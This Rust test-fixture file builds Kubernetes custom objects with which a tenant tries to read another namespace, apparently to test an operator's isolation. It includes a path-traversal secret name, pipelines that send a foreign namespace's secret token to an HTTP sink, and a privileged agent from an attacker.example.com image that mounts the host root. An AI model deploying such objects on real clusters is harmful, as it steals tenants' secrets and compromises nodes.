//! Objects by which a tenant tries to read another namespace.

use serde_json::{Value, json};

use crate::env::database;
use crate::isolation::FOREIGN;

/// API version of the kinds of Vector.
pub const VECTOR: &str = "observability.kaasops.io/v1alpha1";

/// Name of the pipeline with sources of agents and of aggregators.
pub const MIXED: &str = "mixed";

/// Returns objects of a kind in the namespace of a tenant, or cluster-scoped ones. The first one is plain: a user who may
/// create objects of the kind may create it.
pub fn attempts(kind: &str, namespace: &str) -> Vec<Value> {
    match kind {
        "CloudDatabase" => databases(namespace),
        "Echo" => vec![json!({
            "apiVersion": "demo.example.com/v1alpha1", "kind": kind,
            "metadata": {"name": "plain", "namespace": namespace}, "spec": {"text": "hello"},
        })],
        "Vector" => [("plain", agent()), ("on-the-node", agent_on_the_node())]
            .map(|(name, spec)| namespaced(kind, name, namespace, &spec))
            .into(),
        "VectorAggregator" => vec![namespaced(kind, "plain", namespace, &json!({}))],
        "ClusterVectorAggregator" => vec![cluster_scoped(
            kind,
            namespace,
            &json!({"resourceNamespace": namespace}),
        )],
        "VectorPipeline" => pipelines()
            .map(|(name, spec)| namespaced(kind, name, namespace, &spec))
            .into(),
        "ClusterVectorPipeline" => vec![cluster_scoped(kind, namespace, &with_foreign_secret())],
        other => panic!(
            "the kind {other} is new: what can the creator of an object read afterwards? Add an object that tries it"
        ),
    }
}

fn databases(namespace: &str) -> Vec<Value> {
    let mut plain = database("plain");
    plain["metadata"]["namespace"] = json!(namespace);
    let mut foreign = plain.clone();
    foreign["metadata"]["name"] = json!("foreign");
    foreign["spec"]["credentials"] = json!({"secretName": format!("../../{FOREIGN}/secrets/bank")});
    vec![plain, foreign]
}

/// Returns a workload of agents without a selector: it takes the pipelines of all namespaces.
pub fn agent() -> Value {
    json!({"agent": {"image": "timberio/vector:0.57.0-alpine"}})
}

/// Returns one whose Pods have everything of their node.
fn agent_on_the_node() -> Value {
    json!({"agent": {
        "image": "attacker.example.com/any:1",
        "containerSecurityContext": {"privileged": true},
        "hostNetwork": true,
        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        "volumeMounts": [{"name": "root", "mountPath": "/host"}],
    }})
}

fn pipelines() -> [(&'static str, Value); 5] {
    let console = |source: &str| json!({"out": {"type": "console", "inputs": [source], "encoding": {"codec": "json"}}});
    let socket = json!({"type": "socket", "mode": "tcp", "address": "0.0.0.0:9000"});
    [
        (
            "plain",
            json!({"sources": {"in": {"type": "kubernetes_logs"}}, "sinks": console("in")}),
        ),
        ("foreign-secret", with_foreign_secret()),
        (
            "path-to-secret",
            with_secret(
                &json!({"type": "kubernetes_secret", "name": format!("../../{FOREIGN}/secrets/bank")}),
            ),
        ),
        // The workload of a mixed pipeline reads the Kubernetes API.
        (
            MIXED,
            json!({"sources": {"in": {"type": "kubernetes_logs"}, "net": socket}, "sinks": console("in")}),
        ),
        (
            "events",
            json!({"sources": {"in": {"type": "kubernetes_events"}}, "sinks": console("in")}),
        ),
    ]
}

fn with_foreign_secret() -> Value {
    with_secret(&json!({"type": "kubernetes_secret", "name": "bank", "namespace": FOREIGN}))
}

fn with_secret(secret: &Value) -> Value {
    json!({
        "secret": {"bank": secret},
        "sources": {"in": {"type": "syslog", "mode": "tcp", "address": "0.0.0.0:9001"}},
        "sinks": {"out": {
            "type": "http", "inputs": ["in"], "uri": "http://collector/", "encoding": {"codec": "json"},
            "auth": {"strategy": "bearer", "token": "SECRET[bank.token]"},
        }},
    })
}

fn namespaced(kind: &str, name: &str, namespace: &str, spec: &Value) -> Value {
    json!({
        "apiVersion": VECTOR, "kind": kind, "metadata": {"name": name, "namespace": namespace}, "spec": spec,
    })
}

fn cluster_scoped(kind: &str, name: &str, spec: &Value) -> Value {
    json!({"apiVersion": VECTOR, "kind": kind, "metadata": {"name": name}, "spec": spec})
}
